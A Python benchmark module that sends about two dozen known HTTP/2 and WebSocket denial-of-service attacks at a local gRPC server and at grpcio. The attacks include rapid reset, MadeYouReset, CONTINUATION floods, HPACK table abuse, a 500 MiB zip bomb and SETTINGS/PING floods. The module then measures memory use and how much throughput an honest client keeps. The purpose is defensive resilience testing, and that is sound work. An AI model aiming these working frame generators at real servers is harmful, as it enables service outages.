"""`python -m benchmarks.attacks`: known attacks on HTTP/2 servers, against ours and grpcio with the same harness.

A server runs in a process of its own, and one honest client steps in it, flat out and at 0.5 MB/s of attack; four
attackers send from another process. Measured are the server's peak memory, whether it is given back within 5 seconds
of the attack's end, and the share of its steps that the honest client keeps, of those that it makes while the same
attackers write to a socket of which nobody reads more than they do to the server: they share the cores.
"""

from __future__ import annotations

import argparse
import contextlib
import dataclasses
import functools
import itertools
import multiprocessing
import socket
import statistics
import struct
import sys
import threading
import time
import warnings
import zlib
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from typing import Any

import hpack
import psutil

from benchmarks.alone import add_busy, measuring
from bridge import make_remote, serve_gym
from bridge.testing import CountingEnv
from bridge.transport.frames import PREFACE, pack_frame
from bridge.transport.service import METHOD, SERVICE
from bridge.transport.websocket import PATH as WS_PATH
from bridge.transport.websocket import SUBPROTOCOL, token_subprotocol

PATH = f"/{SERVICE}/{METHOD}"
WATCH = "/grpc.health.v1.Health/Watch"
TOKEN = "t" * 32
SLOW = 500_000
"""Bytes a second of all attackers together, in the slow variant."""
ATTACKERS = 4
_MIB = 1 << 20
_SPAWN = multiprocessing.get_context("spawn")


@functools.lru_cache
def block(path: str = PATH, *extra: tuple[str, str], huffman: bool = False) -> bytes:
    """Return a header block of a gRPC call that uses no table."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"), ("te", "trailers")]
    return bytes(encoder.encode([*fields, ("content-type", "application/grpc"), *extra], huffman=huffman))


def open_stream(number: int, path: str = PATH, *extra: tuple[str, str]) -> bytes:
    """Return the HEADERS frame of a call."""
    return pack_frame(1, 4, number, block(path, *extra))


AUTHORIZED = ("authorization", f"Bearer {TOKEN}")
HELLO = PREFACE + pack_frame(4, 0, 0)
Pieces = Iterator[bytes]


def forever(piece: bytes, first: bytes = b"") -> Pieces:
    """Repeat one piece."""
    yield HELLO + first
    piece *= max(1, 16384 // len(piece))
    while True:
        yield piece


def streams(make: Callable[[int], bytes], count: int = 100) -> Pieces:
    """Open one stream after the other."""
    yield HELLO
    number = 1
    while number < 1 << 30:
        yield b"".join(make(number + 2 * index) for index in range(count))
        number += 2 * count


def huffman_headers() -> Pieces:
    """Send header blocks that take long to decompress."""
    head = block(PATH, ("x", "\x01" * 3000), huffman=True)  # 23 bits each
    return streams(lambda number: pack_frame(1, 4, number, head), 2)


def table_resizes() -> Pieces:
    """Change the size of the header table again and again."""
    head = b"\x20\x3f\xe1\x1f" * 1000 + block()
    return streams(lambda number: pack_frame(1, 4, number, head), 4)


def window_flips() -> Pieces:
    """Change the initial window while many streams are open."""
    opened = b"".join(open_stream(2 * index + 1, WATCH) for index in range(380))
    flip = b"".join(pack_frame(4, 0, 0, struct.pack(">HI", 4, size)) for size in (0, 65535))
    return forever(flip, opened)


def announced(path: str = PATH, size: int = 512 * _MIB) -> Pieces:
    """Announce large messages, and send little of them."""
    extra = () if path.startswith("/grpc.") else (AUTHORIZED,)
    body = b"\0" + struct.pack(">I", size) + bytes(200)
    yield HELLO + b"".join(open_stream(2 * n + 1, path, *extra) + pack_frame(0, 0, 2 * n + 1, body) for n in range(4))
    while True:
        yield pack_frame(6, 0, 0, bytes(8))
        time.sleep(0.5)


@functools.lru_cache
def bomb() -> bytes:
    """Return 500 MiB of zeros, compressed."""
    packer, piece = zlib.compressobj(9), bytes(_MIB)
    return b"".join([packer.compress(piece) for _ in range(500)] + [packer.flush()])


def zip_bomb() -> Pieces:
    """Send a compressed message that is a thousand times larger."""
    data = bomb()
    yield HELLO + open_stream(1, PATH, AUTHORIZED, ("grpc-encoding", "gzip"))
    body = b"\1" + struct.pack(">I", len(data)) + data
    for start in range(0, len(body), 16000):
        yield pack_frame(0, 0, 1, body[start : start + 16000])
    while True:
        yield pack_frame(6, 0, 0, bytes(8))
        time.sleep(0.5)


def tiny_requests() -> Pieces:
    """Send empty requests behind a window of zero."""
    yield PREFACE + pack_frame(4, 0, 0, struct.pack(">HI", 4, 0)) + open_stream(1, PATH, AUTHORIZED)
    while True:
        yield pack_frame(0, 0, 1, bytes(5) * 3000)


def continuation() -> Pieces:
    """Send a header block without end."""
    yield HELLO + pack_frame(1, 0, 1, b"")
    while True:
        yield pack_frame(9, 0, 1, bytes(15_000))


def made_you_reset() -> Pieces:
    """Have the server reset one stream after the other."""
    return streams(lambda number: open_stream(number, WATCH) + pack_frame(8, 0, number, bytes(4)))


def watches(number: int = 40) -> Pieces:
    """Send many empty requests of a health call in each of few large DATA frames, a few at a time."""
    window = pack_frame(4, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) + pack_frame(8, 0, 0, struct.pack(">I", 1 << 30))
    yield HELLO + window
    for stream in itertools.count(1, 2):
        yield open_stream(stream, WATCH)
        yield pack_frame(0, 0, stream, bytes(_MIB))[:9]
        yield from itertools.repeat(bytes(5 * number), _MIB // (5 * number))
        yield bytes(_MIB % (5 * number))


EMPTY = pack_frame(0, 0, 1, bytes(5))
"""An empty request."""


def beside_requests(frame: bytes) -> Pieces:
    """Send an empty request with each 4 KiB of other frames."""
    return forever(frame * (4096 // len(frame)) + EMPTY, open_stream(1, PATH, AUTHORIZED))


def websocket(first: bytes, piece: bytes) -> Pieces:
    """Send WebSocket frames with the token."""
    names = ", ".join((SUBPROTOCOL, token_subprotocol(TOKEN)))
    head = f"GET {WS_PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    head += "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
    yield f"{head}Sec-WebSocket-Protocol: {names}\r\n\r\n".encode() + first
    piece *= max(1, 16384 // len(piece))
    while True:
        yield piece


def masked(opcode: int, payload: bytes = b"") -> bytes:
    """Return a client's frame of WebSocket, of at most 125 bytes."""
    return bytes((opcode, 0x80 | len(payload))) + bytes(4) + payload


BEGUN = b"\x02\xff" + (70_000).to_bytes(8, "big") + bytes(4) + bytes(70_000)
"""The first fragment of a large message of WebSocket."""


ATTACKS: dict[str, Callable[[], Pieces]] = {
    "announced 512 MiB x4": announced,
    "announced 511 MiB on health": lambda: announced("/grpc.health.v1.Health/Check", 511 * _MIB),
    "Huffman headers": huffman_headers,
    "SETTINGS window flips": window_flips,
    "calls without a token": lambda: streams(open_stream),
    "MadeYouReset": made_you_reset,
    "rapid reset": lambda: streams(lambda n: open_stream(n) + pack_frame(3, 0, n, struct.pack(">I", 8))),
    "SETTINGS": lambda: forever(pack_frame(4, 0, 0)),
    "PING": lambda: forever(pack_frame(6, 0, 0, bytes(8))),
    "empty DATA": lambda: forever(pack_frame(0, 0, 1), open_stream(1, WATCH)),
    "PRIORITY": lambda: forever(pack_frame(2, 0, 1, bytes(5)), open_stream(1, WATCH)),
    "unknown frames": lambda: forever(pack_frame(99, 0, 0)),
    "table resizes": table_resizes,
    "CONTINUATION": continuation,
    "zip bomb 500 MiB": zip_bomb,
    "tiny requests, zero window": tiny_requests,
    "empty requests in large frames, health": watches,
    "connect flood": lambda: iter([HELLO]),
    "tiny messages to Watch": lambda: forever(pack_frame(0, 0, 1, bytes(1 << 20)), open_stream(1, WATCH)),
    "PING beside requests": lambda: beside_requests(pack_frame(6, 0, 0, bytes(8))),
    "SETTINGS beside requests": lambda: beside_requests(pack_frame(4, 0, 0)),
    "padded DATA beside requests": lambda: beside_requests(pack_frame(0, 8, 1, b"\0")),
    "WebSocket pings beside requests": lambda: websocket(b"", masked(0x89) * 680 + masked(0x82)),
    "WebSocket empty fragments": lambda: websocket(BEGUN, masked(0x00)),
}


# Attackers


def attack(name: str, port: int, rate: float, ready: Any, stop: Any) -> None:
    """Run the attackers of one kind until `stop`: the whole life of their process."""

    def one() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5.0) as sock:
                sock.settimeout(0.5)
                drain = threading.Thread(target=swallow, args=(sock,), daemon=True)
                drain.start()
                send(sock, ATTACKS[name](), rate, stop)
                sock.shutdown(socket.SHUT_RDWR)
            time.sleep(0.002)

    if name.startswith("zip"):
        bomb()  # before the time is taken
    threads = [threading.Thread(target=one, daemon=True) for _ in range(ATTACKERS)]
    for thread in threads:
        thread.start()
    ready.set()
    stop.wait()


def swallow(sock: socket.socket) -> None:
    """Take what the server says."""
    with contextlib.suppress(OSError):
        while True:
            try:
                if not sock.recv(65536):
                    return
            except TimeoutError:
                continue


def send(sock: socket.socket, pieces: Pieces, rate: float, stop: Any) -> None:
    """Send until the server closes or `stop`, at most so many bytes a second."""
    began, sent = time.monotonic(), 0
    for piece in pieces:
        view = memoryview(piece)
        while view and not stop.is_set():
            try:
                count = sock.send(view)
            except TimeoutError:
                continue
            view = view[count:]
            sent += count
            if rate:
                stop.wait(max(0.0, sent / rate - (time.monotonic() - began)))
        if stop.is_set():
            return


@contextmanager
def attacking(name: str, port: int, rate: float) -> Iterator[None]:
    """Attack meanwhile."""
    ready, stop = _SPAWN.Event(), _SPAWN.Event()
    process = _SPAWN.Process(target=attack, args=(name, port, rate, ready, stop), daemon=True)
    process.start()
    try:
        ready.wait(30.0)
        yield
    finally:
        stop.set()
        process.join(5.0)
        if process.is_alive():
            process.kill()
            process.join()


# Servers


def serve(kind: str, pipe: Any) -> None:
    """Serve until the pipe says so: the whole life of the server's process."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        keywords: dict[str, Any] = {"token": TOKEN, "transport": kind, "web": kind == "http2"}
        with serve_gym(lambda: CountingEnv(1 << 30), **keywords) as server:
            pipe.send(server.port)
            pipe.recv()


def ignore(kind: str, pipe: Any) -> None:
    """Accept connections and read nothing: what an attacker costs by itself."""
    with socket.create_server(("127.0.0.1", 0), backlog=100) as listener:
        pipe.send(listener.getsockname()[1])
        held = []
        listener.settimeout(0.1)
        while not pipe.poll():
            with contextlib.suppress(TimeoutError):
                held.append(listener.accept()[0])


@contextmanager
def running(target: Callable[[str, Any], None], kind: str = "") -> Iterator[tuple[int, psutil.Process]]:
    """Run a server in a process of its own; give its port and process."""
    ours, theirs = _SPAWN.Pipe()
    process = _SPAWN.Process(target=target, args=(kind, theirs), daemon=True)
    process.start()
    try:
        if not ours.poll(60.0):
            raise RuntimeError("the server did not start")
        yield ours.recv(), psutil.Process(process.pid)
    finally:
        with contextlib.suppress(OSError):
            ours.send(None)
        process.join(10.0)
        if process.is_alive():
            process.kill()
            process.join()


# Measuring


class Watch:
    """Follows the memory of a process."""

    def __init__(self, process: psutil.Process) -> None:
        self._process = process
        self.peak = 0
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._over.wait(0.02):
            with contextlib.suppress(psutil.Error):
                self.peak = max(self.peak, self._process.memory_info().rss)

    def close(self) -> None:
        """End it."""
        self._over.set()
        self._thread.join()


def steps_in(port: int, seconds: float) -> int:
    """Return how many steps an honest client makes, its connection included."""
    count, until = 0, time.monotonic() + seconds
    with contextlib.suppress(Exception):
        env = make_remote(f"grpc://127.0.0.1:{port}", token=TOKEN, timeout=max(2.0, seconds))
        try:
            env.reset(seed=0)
            while time.monotonic() < until:
                env.step(0)
                count += 1
        finally:
            env.close()
    return count


@dataclasses.dataclass(frozen=True)
class Outcome:
    """What one attack on one server did."""

    peak: float
    """MiB."""
    freed: bool
    """Whether the memory was given back 5 seconds after the attack, but for 30 MiB."""
    share: float
    """Of its steps that an honest client kept, against the same attackers writing to a socket nobody reads."""
    slow_share: float
    """The same at 0.5 MB/s."""


def measure(name: str, kind: str, seconds: float, rounds: int) -> Outcome:
    """Run one attack on one server; medians over the rounds."""
    peaks, shares, slow_shares, freed = [], [], [], True
    for _ in range(rounds):
        with running(serve, kind) as (port, process), running(ignore) as (nowhere, _):
            base = process.memory_info().rss
            found = []
            for rate in (0.0, SLOW / ATTACKERS):
                with attacking(name, nowhere, rate):
                    before = steps_in(port, seconds)
                watch = Watch(process)
                with attacking(name, port, rate):
                    found.append(steps_in(port, seconds) / max(1, before))
                watch.close()
                peaks.append(watch.peak / _MIB)
            shares.append(found[0])
            slow_shares.append(found[1])
            deadline = time.monotonic() + 5.0
            while process.memory_info().rss > base + 30 * _MIB and time.monotonic() < deadline:
                time.sleep(0.05)
            freed = freed and process.memory_info().rss <= base + 30 * _MIB
    return Outcome(max(peaks), freed, statistics.median(shares), statistics.median(slow_shares))


def table(results: dict[str, dict[str, Outcome]]) -> str:
    """Return the results as Markdown."""
    lines = [
        "| attack | peak MiB | freed | honest, flat out | at 0.5 MB/s | grpcio: peak MiB | honest | at 0.5 MB/s |",
        "|---|---|---|---|---|---|---|---|",
    ]
    for name, found in results.items():
        ours = found["http2"]
        row = [name, f"{ours.peak:.0f}", "yes" if ours.freed else "**no**"]
        row += [f"{ours.share:.0%}", f"{ours.slow_share:.0%}"]
        other = found.get("grpcio")
        row += ["", "", ""] if other is None else [f"{other.peak:.0f}", f"{other.share:.0%}", f"{other.slow_share:.0%}"]
        lines.append("| " + " | ".join(row) + " |")
    return "\n".join(lines)


def main(argv: Sequence[str] | None = None) -> int:
    """Run, and print the table; the exit code is 1 where one of our goals is missed."""
    parser = argparse.ArgumentParser(prog="python -m benchmarks.attacks", description="Attacks on HTTP/2.")
    parser.add_argument("attacks", nargs="*", metavar="ATTACK", help=f"all, or some of: {', '.join(ATTACKS)}")
    parser.add_argument("--seconds", type=float, default=3.0, help="of each measurement")
    parser.add_argument("--rounds", type=int, default=5, help="of which medians are shown")
    parser.add_argument("--servers", default="http2,grpcio")
    add_busy(parser)
    arguments = parser.parse_args(argv)
    results: dict[str, dict[str, Outcome]] = {}
    missed = []
    with measuring(parser, arguments.busy):
        for name in arguments.attacks or ATTACKS:
            results[name] = {}
            for kind in arguments.servers.split(","):
                results[name][kind] = measure(name, kind, arguments.seconds, arguments.rounds)
                print(f"{name}, {kind}: {results[name][kind]}", file=sys.stderr, flush=True)
            ours = results[name].get("http2")
            if ours is not None and not (
                ours.peak <= 256 and ours.freed and ours.share >= 0.5 and ours.slow_share >= 0.8
            ):
                missed.append(name)
    print(table(results))
    print(f"missed: {', '.join(missed) or 'none'}")
    return int(bool(missed))


if __name__ == "__main__":
    sys.exit(main())
